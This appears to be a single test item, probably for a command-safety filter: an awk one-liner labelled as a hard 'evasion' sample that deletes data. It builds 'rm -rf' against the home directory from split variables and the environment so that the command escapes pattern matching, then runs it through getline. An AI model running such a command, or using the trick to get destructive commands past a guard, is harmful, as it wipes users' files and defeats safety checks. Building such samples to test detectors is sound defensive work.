# evasion: awk runs a command through "cmd | getline", the command concatenated from pieces and ENVIRON
# grade: hard; does: delete
awk -v a=r -v b=m 'BEGIN {
	cmd = a b " -rf -- " ENVIRON["HOME"]
	while ((cmd | getline line) > 0) print line
	close(cmd)
}'
